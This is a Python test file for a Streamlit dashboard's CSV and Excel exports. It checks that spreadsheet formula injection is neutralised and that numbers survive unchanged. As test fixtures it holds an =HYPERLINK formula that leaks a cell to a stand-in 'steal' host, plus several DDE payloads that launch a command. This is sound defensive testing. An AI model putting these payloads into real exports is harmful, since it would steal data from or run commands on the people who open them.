"""No download or export carries a spreadsheet formula: every page's CSV downloads (collected by
running each page with AppTest against a warehouse built from extracts with hostile text, and an
app store with a hostile entry), the workbook and the store's export. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from dashboard import formatting, site, store
from dashboard.exports import workbook
from dashboard.store import Actor
from pipelines.build import run_build
from tests.conftest import APP, APP_TIMEOUT, SAMPLES

HYPERLINK = '=HYPERLINK("http://x.example/steal?d="&A1,"click")'
HOSTILE = {
    # extract file: (column, value written into every row)
    "recommendation_updates.csv": ("milestone", HYPERLINK),
    "services.csv": ("name", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "ebe_reviews.csv": ("comment", "+cmd|' /C calc'!A0"),
    "lived_experience_feedback.csv": ("quote", "-2+3+cmd|' /C calc'!A0"),
}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[\d,]*\.?\d+%?")


def _dangerous(cell: object) -> bool:
    """A text cell a spreadsheet would run as a formula (a plain number such as -3.1 is not)."""
    return (isinstance(cell, str) and cell.startswith(DANGEROUS_STARTS)
            and not NUMBER.fullmatch(cell))


@pytest.fixture(scope="module")
def hostile_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "source"
    shutil.copytree(SAMPLES, source)
    for name, (column, value) in HOSTILE.items():
        frame = pl.read_csv(source / name, infer_schema=False)
        frame.with_columns(pl.lit(value).alias(column)).write_csv(source / name)
    warehouse = folder / "warehouse.duckdb"
    run_build(source, warehouse)
    return warehouse


@pytest.fixture
def hostile_app(hostile_warehouse: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                local_browser: None) -> Iterator[list[tuple[str, bytes]]]:
    """Environment for AppTest runs against the hostile warehouse and a store holding a hostile
    update; yields the list every download button's (label, data) is collected into."""
    app_db = tmp_path / "app.duckdb"
    monkeypatch.setenv("COC_WAREHOUSE", str(hostile_warehouse))
    monkeypatch.setenv(store.APP_DB_ENV, str(app_db))
    store.app_store(app_db).record(
        "update", {"recommendation_id": "R7", "scope": "london", "reported_on": "2024-05-01",
                   "status": "embedded", "rag": "green", "milestone": HYPERLINK,
                   "owner": "@owner", "next_step": "-1+1"},
        Actor("local:test", frozenset(store.ROLES)))
    collected: list[tuple[str, bytes]] = []
    original = DeltaGenerator.download_button

    def recording(self, label, data, *args, **kwargs):
        content = data() if callable(data) else data
        collected.append((label, content.encode() if isinstance(content, str) else content))
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
    import streamlit as st
    monkeypatch.setattr(st, "download_button",
                        lambda *args, **kwargs: recording(st._main, *args, **kwargs))
    yield collected
    store.app_store(app_db).close()


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def test_every_page_download_is_free_of_formulas(hostile_app: list[tuple[str, bytes]]) -> None:
    for page in site.PAGES:
        at = AppTest.from_file(str(APP), default_timeout=APP_TIMEOUT)
        at.run()
        at.switch_page(f"views/{page.file}").run()
        assert not at.exception, (page.file, [e.value for e in at.exception])
    csvs = [(label, content) for label, content in hostile_app if content[:2] != b"PK"]
    labels = [label for label, _ in csvs]
    assert {"Download CSV: The 11 items: London as a whole", "Download entries (CSV)",
            "Download CSV: Every quote",
            "Download CSV: Recovery services in Lambeth"} <= set(labels)
    assert len(csvs) >= 15, labels
    reached = {value: False for _, value in HOSTILE.values()}
    for label, content in csvs:
        cells = _csv_cells(content)
        assert not [c for c in cells if _dangerous(c)], label
        for value in reached:
            reached[value] |= ("'" + value) in cells
    assert all(reached.values()), reached  # the hostile text did reach the downloads, disarmed
    workbooks = [content for _, content in hostile_app if content[:2] == b"PK"]
    assert workbooks, "the downloads page offers the workbook"
    book = openpyxl.load_workbook(io.BytesIO(workbooks[0]))
    assert not [c.value for sheet in book for row in sheet.iter_rows() for c in row
                if _dangerous(c.value)]


def test_numbers_and_negative_numbers_stay_numbers_in_a_download() -> None:
    table = pl.DataFrame({"Area": ["=1+1", "Lambeth", "-", "'quoted"],
                          "Change": [-3.1, 2.0, None, 0.5],
                          "Shown": ["-3.1", "+2", "-12.5%", "1,234"]})
    content = formatting.csv_bytes(table, "=title", "@definition", None, False)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert ["'=title"] in rows
    header = rows.index(["Area", "Change", "Shown"])
    body = rows[header + 1:header + 5]  # notes may follow the data
    assert body == [["'=1+1", "-3.1", "-3.1"], ["Lambeth", "2.0", "+2"],
                    ["'-", "", "-12.5%"], ["''quoted", "0.5", "1,234"]]


def test_the_store_export_uses_the_same_rule_and_reads_back_exactly(tmp_path: Path) -> None:
    app = store.app_store(tmp_path / "app.duckdb")
    admin = Actor("local:test", frozenset(store.ROLES))
    values = {"recommendation_id": "R7", "scope": "london", "reported_on": "2024-05-01",
              "status": "embedded", "rag": "green", "milestone": HYPERLINK, "owner": "'GLA",
              "next_step": "-5"}
    app.record("update", values, admin)
    entries_csv, _ = app.export_csv()
    row = next(csv.DictReader(io.StringIO(entries_csv.decode())))
    assert row["milestone"] == formatting.spreadsheet_text(HYPERLINK) == "'" + HYPERLINK
    assert (row["owner"], row["next_step"]) == ("''GLA", "-5")
    other = store.app_store(tmp_path / "other.duckdb")
    other.import_csv(entries_csv, admin)
    back = other.entries().row(0, named=True)
    assert (back["milestone"], back["owner"], back["next_step"]) == (HYPERLINK, "'GLA", "-5")
    app.close()
    other.close()


def test_the_workbook_writes_text_neutralised_and_numbers_as_numbers(
        sample_warehouse: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COC_WAREHOUSE", str(sample_warehouse))
    real = workbook.scope_rows

    def hostile_rows(scope_code: str, kpi_id: str) -> pl.DataFrame:
        rows = real(scope_code, kpi_id)
        return rows.with_columns(pl.lit(HYPERLINK).alias("note"),
                                 pl.lit("-1+1").alias("area_name"))

    monkeypatch.setattr(workbook, "scope_rows", hostile_rows)
    book = openpyxl.load_workbook(io.BytesIO(workbook.to_xlsx("london")))
    cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    assert "'" + HYPERLINK in cells and "'-1+1" in cells
    assert not [c for c in cells if _dangerous(c)]
    sheet = book["Continuity of care (21 days)"]
    heading = next(r for r in range(1, 10) if sheet.cell(r, 1).value == "Period")
    column = 1 + [c.value for c in sheet[heading]].index("Value")
    values = [sheet.cell(r, column).value for r in range(heading + 1, sheet.max_row + 1)]
    assert any(isinstance(v, float) for v in values)
    odd = {v for v in values if not isinstance(v, (int, float))}
    assert odd <= {formatting.SUPPRESSED_MARK, formatting.NOT_YET_TEXT, ""}, odd


def test_the_tables_built_in_csv_export_is_switched_off() -> None:
    """st.dataframe's own "Download as CSV" writes cells as they are; only the product's
    neutralised downloads may be offered."""
    import tomllib

    config = tomllib.loads((Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml")
                           .read_text())
    assert config["client"]["disableDataExport"] is True
